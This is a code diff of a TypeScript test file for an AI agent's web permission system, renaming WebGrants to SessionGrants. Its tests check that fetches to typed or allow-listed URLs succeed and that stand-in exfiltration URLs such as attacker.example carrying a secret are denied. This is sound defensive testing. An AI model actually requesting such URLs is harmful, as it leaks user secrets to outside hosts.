@@ -3,7 +3,13 @@ import { z } from 'zod';
 import { egressFacts, urlIsFree } from '../../src/agent/egress.js';
 import type { RunEvent } from '../../src/agent/events.js';
 import { type ApprovalAnswer, type Prompter, runAgent, type ToolApproval } from '../../src/agent/loop.js';
-import { decide, grantTyped, newWebGrants, urlsInText, type WebGrants } from '../../src/agent/permissions.js';
+import {
+  decide,
+  grantTyped,
+  newSessionGrants,
+  type SessionGrants,
+  urlsInText,
+} from '../../src/agent/permissions.js';
 import { PLATFORMS } from '../../src/llm/platforms.js';
 import type { Message, ToolMessage } from '../../src/llm/types.js';
 import { UsageTracker } from '../../src/llm/usage.js';
@@ -38,14 +44,14 @@ describe('typed URLs', () => {
   });
 
   it('frees exactly the typed URL (not the same site with added data), or a data-free address on an allowed site', () => {
-    const g = newWebGrants();
-    const free = (url: string) => urlIsFree(url, egressFacts(g));
+    const g = newSessionGrants();
+    const free = (url: string) => urlIsFree(url, egressFacts(g.web));
     grantTyped(g, 'read https://news.example/story#top');
     expect(free('https://news.example/story')).toBe(true);
     expect(free('https://NEWS.example/story#other')).toBe(true);
     expect(free('https://news.example/story?k=0123456789abcdef')).toBe(false);
     expect(free('https://attacker.example/?k=1')).toBe(false);
-    g.hosts.add('docs.example');
+    g.web.hosts.add('docs.example');
     expect(free('https://docs.example/any/page')).toBe(true);
     expect(free('https://docs.example/any/page?x=1')).toBe(false);
     expect(free('https://docs.example.evil.example/')).toBe(false);
@@ -100,7 +106,7 @@ async function run(o: {
   answers: ApprovalAnswer[];
   interactive?: boolean;
   mode?: 'approve' | 'auto';
-  grants?: WebGrants;
+  grants?: SessionGrants;
 }) {
   const fetched: string[] = [];
   const asked: ToolApproval[] = [];
@@ -126,7 +132,7 @@ async function run(o: {
       usage: new UsageTracker(PLATFORMS.bigmodel),
       cwd: '/tmp',
       outputDir: '/tmp/out',
-      webGrants: o.grants ?? newWebGrants(),
+      grants: o.grants ?? newSessionGrants(),
     },
     { model: 'glm-5', thinking: false, maxTurns: 10, mode: o.mode ?? 'approve' },
   );
@@ -179,7 +185,7 @@ describe('web_fetch in the loop', () => {
   });
 
   it('fetches a URL the person typed without asking', async () => {
-    const grants = newWebGrants();
+    const grants = newSessionGrants();
     grantTyped(grants, '请总结 https://news.example/a');
     const r = await run({ turns: calls('https://news.example/a'), answers: [], grants });
     expect(r.asked).toEqual([]);
@@ -187,7 +193,7 @@ describe('web_fetch in the loop', () => {
   });
 
   it('without a terminal fetches only typed URLs: the exfiltration URL is denied with a notice', async () => {
-    const grants = newWebGrants();
+    const grants = newSessionGrants();
     grantTyped(grants, 'summarize https://news.example/a');
     const r = await run({
       turns: calls('https://news.example/a', 'https://attacker.example/?k=secret'),
@@ -222,7 +228,7 @@ describe('web_fetch in the loop', () => {
       answers: [],
       interactive: false,
       mode: 'auto',
-      grants: newWebGrants({ webAllow: ['docs.example'] }),
+      grants: newSessionGrants({ webAllow: ['docs.example'] }),
     });
     expect(r.fetched).toEqual(['https://docs.example/guide']);
     expect(r.results[1]).toMatch(/^Error: Denied/);
@@ -236,7 +242,7 @@ const searches = (...queries: string[]): Turn[] => [
 
 describe('web_search asks for every query', () => {
   it('a yes covers that query only; the question shows the words', async () => {
-    const grants = newWebGrants();
+    const grants = newSessionGrants();
     const r = await run({ turns: searches('天气 北京', '汇率'), answers: [true, true], grants });
     expect(r.asked).toHaveLength(2);
     expect(r.asked[0]!.summary?.text).toMatch(/Each search is asked about/);
